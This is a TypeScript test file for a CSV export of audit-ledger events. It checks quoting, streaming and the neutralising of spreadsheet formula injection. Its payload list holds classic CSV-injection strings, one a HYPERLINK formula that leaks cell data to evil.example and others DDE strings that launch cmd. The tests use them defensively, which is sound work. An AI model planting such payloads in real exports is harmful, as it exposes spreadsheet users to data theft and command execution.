import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { LedgerEvent } from '../../../lib/domain/LedgerEvent.js';
import { CSV_COLUMNS, toCsv } from '../../../lib/audit/toCsv.js';
import { LedgerFixture, collect, stepDraft, stream } from './auditFixtures.js';

// The classic payloads from OWASP's CSV Injection page and the write-ups it cites.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

function parseCsv(text: string): string[][] {
  // Strict RFC 4180 reading: no relaxed quotes, CRLF records only.
  return parse(text, { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false }) as string[][];
}

/** What a plain CSV reader sees, undoing only the documented single-quote neutralisation. */
function unneutralise(cell: string): string {
  return cell.startsWith("'") && /^['][=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell;
}

describe('toCsv', () => {
  it('writes a header row and one CRLF-terminated record per event, parsing back to the same values', async () => {
    // Prepare: values RFC 4180 must quote — commas, quotes, CR, LF — and non-ASCII text.
    const fixture = new LedgerFixture();
    const tricky = await fixture.append({
      ...stepDraft('access#p1#slack', 'tricky'),
      entitlement: 'group:"Sales, EMEA"',
      rule: 'line one\r\nline two\nline three',
      source: { channel: 'scim', actor: 'okta, prod', requestId: 'req-1', operation: 'PATCH /Users/{id}' },
      before: { displayName: 'Zoë "Z" Ó Briain' },
      after: null,
      detail: { note: 'a,b\r\nc', n: 1 },
    });
    const plain = await fixture.append(stepDraft('access#p1#slack', 'plain'));

    // Act
    const text = await collect(toCsv(stream([tricky, plain])));
    const rows = parseCsv(text);

    // Assess
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(rows).toHaveLength(3);
    const records = rows.slice(1).map((row) => Object.fromEntries(row.map((value, i) => [CSV_COLUMNS[i], value])));
    for (const [record, event] of [[records[0], tricky], [records[1], plain]] as const) {
      expect(record).toEqual({
        recordedAt: event.recordedAt,
        occurredAt: event.occurredAt,
        chain: event.chain,
        seq: String(event.seq),
        type: event.type,
        outcome: event.outcome,
        personId: event.personId ?? '',
        app: event.app ?? '',
        entitlement: event.entitlement ?? '',
        rule: event.rule ?? '',
        actor: event.source.actor,
        channel: event.source.channel,
        requestId: event.source.requestId ?? '',
        operation: event.source.operation ?? '',
        before: event.before === undefined ? '' : expect.any(String),
        after: event.after === undefined ? '' : expect.any(String),
        detail: event.detail === undefined ? '' : expect.any(String),
        prevHash: event.prevHash,
        hash: event.hash,
      });
    }
    expect(JSON.parse(records[0]?.before ?? '')).toEqual(tricky.before);
    expect(records[0]?.after).toBe('null');
    expect(JSON.parse(records[0]?.detail ?? '')).toEqual(tricky.detail);
    expect(records[1]?.before).toBe('');
  });

  it.each(PAYLOADS)('neutralises the formula %j in every column it can reach', async (payload) => {
    // Prepare: the payload in each free-text field an IdP, HR system or SaaS API controls.
    const fixture = new LedgerFixture();
    const event = await fixture.append({
      ...stepDraft('access#p1#slack', 'evil'),
      personId: payload,
      app: payload,
      entitlement: payload,
      rule: payload,
      source: { channel: 'scim', actor: payload, requestId: payload, operation: payload },
      after: payload,
    });

    // Act
    const text = await collect(toCsv([event]));
    const [, row = []] = parseCsv(text);

    // Assess: no cell starts with a trigger; each is the payload behind one quote, and it round-trips.
    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const columns = ['personId', 'app', 'entitlement', 'rule', 'actor', 'requestId', 'operation'];
    for (const column of columns) {
      const cell = row[CSV_COLUMNS.indexOf(column as (typeof CSV_COLUMNS)[number])];
      expect(cell).toBe(`'${payload}`);
      expect(unneutralise(cell ?? '')).toBe(payload);
    }
    // Quoted on the wire too, so a reader splitting on commas cannot shift the leading quote away.
    expect(text).toContain(`"'${payload.charAt(0)}`);
  });

  it('neutralises JSON cells that start with a minus sign', async () => {
    // Prepare
    const fixture = new LedgerFixture();
    const event = await fixture.append({ ...stepDraft('access#p1#slack', 'negative'), before: -5, after: 3 });

    // Act
    const [, row = []] = parseCsv(await collect(toCsv([event])));

    // Assess
    expect(row[CSV_COLUMNS.indexOf('before')]).toBe("'-5");
    expect(row[CSV_COLUMNS.indexOf('after')]).toBe('3');
  });

  it('streams: the header is out before any event is read, and each row before the next is pulled', async () => {
    // Prepare: a source that counts how far it has been read.
    const fixture = new LedgerFixture();
    const events = await fixture.steps('access#p1#slack', 3);
    let pulled = 0;
    async function* source(): AsyncGenerator<LedgerEvent> {
      for (const event of events) {
        pulled++;
        yield event;
      }
    }
    const chunks = toCsv(source())[Symbol.asyncIterator]();

    // Act
    const header = await chunks.next();
    const pulledForHeader = pulled;
    const first = await chunks.next();
    const pulledForFirst = pulled;

    // Assess
    expect(header.value).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
    expect(pulledForHeader).toBe(0);
    expect(first.value).toContain(events[0]?.hash);
    expect(pulledForFirst).toBe(1);
  });
});
